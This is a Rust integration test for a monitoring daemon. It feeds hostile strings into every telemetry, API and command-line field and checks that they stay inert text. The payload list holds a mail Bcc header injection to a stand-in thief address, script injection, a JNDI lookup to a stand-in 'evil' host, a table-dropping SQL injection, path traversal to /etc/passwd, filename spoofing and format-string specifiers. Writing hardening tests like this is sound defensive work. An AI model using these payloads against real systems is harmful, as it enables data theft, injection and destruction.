//! Text that tries to be something else, in each place where text comes in: it stays text wherever it comes out.

use harness::Daemon;
use harness::certificate;
use harness::daemon::Setup;
use harness::smtp::{Mail, Smtp, Tls};
use harness::webhook::Webhook;
use serde_json::{Value, json};

use super::{SOON, assert_well};

/// Text that tries to be something else, in each place where text comes in.
const HOSTILE: [&str; 7] = [
    "\u{1b}[31mred\u{1b}[0m\u{7}",
    "line\r\nBcc: thief@evil.example\r\n\r\nbody",
    "<script>alert(1)</script>\"'`${jndi:ldap://evil}{{7*7}}",
    "'; DROP TABLE fact; --",
    "\u{202e}txt.exe\u{200b}\u{feff}",
    "../../../../etc/passwd\0.png",
    "%n%s%x\u{fffd}\u{10ffff}",
];

/// Control characters that would act on a terminal.
fn acts_on_a_terminal(text: &str) -> bool {
    text.chars().any(|c| c.is_control() && c != '\n' && c != '\t')
}

fn hostile_telemetry(number: usize, text: &str) -> (Value, Value) {
    let attributes = json!([
        { "key": "service.name", "value": { "stringValue": format!("shop {text}") } },
        { "key": text, "value": { "stringValue": text } },
    ]);
    let trace = format!("{:032x}", number + 1);
    let span = json!({
        "traceId": trace, "spanId": "00000000000000a1", "name": text, "kind": 2, "attributes": attributes,
        "startTimeUnixNano": "1", "endTimeUnixNano": "18446744073709551615", "status": { "code": 2, "message": text },
    });
    let log = json!({ "traceId": trace, "severityNumber": 17, "severityText": text, "body": { "stringValue": text }, "attributes": attributes });
    let resource = json!({ "attributes": attributes });
    (
        json!({ "resourceSpans": [{ "resource": resource, "scopeSpans": [{ "scope": { "name": text }, "spans": [span] }] }] }),
        json!({ "resourceLogs": [{ "resource": resource, "scopeLogs": [{ "logRecords": [log] }] }] }),
    )
}

/// Sends one text into every field there is; nothing may answer 500.
fn send_everywhere(daemon: &Daemon, number: usize, text: &str) {
    let (spans, logs) = hostile_telemetry(number, text);
    for (signal, body) in [("traces", spans), ("logs", logs)] {
        let answer = daemon.otlp(signal, &body).unwrap();
        assert!(
            answer.status() < 500,
            "{signal} {text:?}: {} {}",
            answer.first,
            answer.text()
        );
    }
    let requests = [
        (
            "/api/v1/deployments",
            json!({ "service": "shop", "version": format!("1.{number}"), "by": text, "note": text }),
        ),
        ("/api/v1/deployments", json!({ "service": text, "version": "1" })),
        ("/api/v1/deployments", json!({ "service": "shop", "version": text })),
        (
            "/api/v1/deployments",
            json!({ "service": "shop", "version": "1", "environment": text }),
        ),
        (
            "/api/v1/silences",
            json!({ "service": "other", "for": "1h", "by": text, "reason": text }),
        ),
        ("/api/v1/silences", json!({ "rule": text, "for": text })),
        ("/api/v1/ack", json!({ "incident": text, "by": text, "note": text })),
        ("/api/v1/actions/stop", json!({ "action": text })),
    ];
    for (path, body) in requests {
        let answer = daemon.api("POST", path, body.to_string().as_bytes()).unwrap();
        assert!(
            answer.status() < 500,
            "{path} {body}: {} {}",
            answer.first,
            answer.text()
        );
    }
}

#[test]
fn hostile_text_in_every_field_stays_text() {
    let folder = tempfile::tempdir().unwrap();
    let certificate = certificate::make(folder.path(), 30);
    let smtp = Smtp::start(folder.path(), Tls::StartTls, &certificate);
    let (hook, target) = (Webhook::start(), Webhook::start());
    let configuration = format!(
        r#"
        [network]
        anchors = []
        [notify.me]
        via.email = {{ to = ["me@shop.example"], from = "watchkeep@shop.example", smtp = {{ env = "SMTP_URL" }} }}
        [notify.hook]
        via.webhook = {{ url = {{ env = "HOOK_URL" }} }}
        [probe.shop]
        every = "1s"
        second_look = false
        check.http = {{ url = "{}" }}
        [alert.shop-down]
        when = "not up(shop)"
        for = "1s"
        notify = ["me", "hook"]
        "#,
        target.url()
    );
    let setup = Setup::new(folder.path(), &configuration)
        .env("SMTP_URL", &smtp.url())
        .env("HOOK_URL", &hook.url());
    let mut daemon = setup.trust(&certificate).start();
    for (number, text) in HOSTILE.iter().enumerate() {
        send_everywhere(&daemon, number, text);
    }
    target.answer(500);
    assert_mails_are_plain(&smtp.wait_for(1, SOON));
    let said = hook.wait_for(1, SOON)[0].request.json();
    for field in ["title", "text"] {
        assert!(!acts_on_a_terminal(said[field].as_str().unwrap()), "{field}: {said:#}");
    }
    assert_commands_are_plain(&daemon, said["incident"]["id"].as_str().unwrap());
    assert_commands_take_it_as_text(&daemon);
    assert_well(&mut daemon);
}

/// No header came in by a field, and nothing acts on a terminal.
fn assert_mails_are_plain(mails: &[Mail]) {
    for mail in mails {
        let head = mail.text.split("\r\n\r\n").next().unwrap();
        assert!(!head.contains("Bcc"), "a header came in:\n{head}");
        assert_eq!(mail.to, ["me@shop.example"]);
        assert!(!acts_on_a_terminal(&mail.body().replace('\r', "")), "{:?}", mail.body());
        assert!(
            mail.body().contains("deployed by"),
            "the deployments are told:\n{}",
            mail.body()
        );
    }
}

/// What is asked for shows text as text.
fn assert_commands_are_plain(daemon: &Daemon, incident: &str) {
    let asked: [&[&str]; 8] = [
        &["status"],
        &["alerts"],
        &["timeline"],
        &["logs"],
        &["trace", "00000000000000000000000000000001"],
        &["why", incident],
        &["actions"],
        &["silence", "--list"],
    ];
    for arguments in asked {
        let said = daemon.cli(arguments);
        assert!(
            !acts_on_a_terminal(&said.out) && !acts_on_a_terminal(&said.err),
            "{arguments:?}: {:?}{:?}",
            said.out,
            said.err
        );
        assert!(
            said.code >= 0 && !said.err.contains("panicked"),
            "{arguments:?}: {}",
            said.err
        );
    }
}

/// A hostile argument is refused in words.
fn assert_commands_take_it_as_text(daemon: &Daemon) {
    for text in HOSTILE {
        // No argument of a process holds a null.
        let text = &text.replace('\0', "");
        for arguments in [["why", text], ["trace", text], ["ack", text], ["silence", text]] {
            let said = daemon.cli(&arguments);
            assert!(
                said.code > 0,
                "{arguments:?} exits {}: {}{}",
                said.code,
                said.out,
                said.err
            );
            assert!(
                !acts_on_a_terminal(&said.err) && !said.err.contains("panicked"),
                "{arguments:?}: {:?}",
                said.err
            );
        }
    }
}
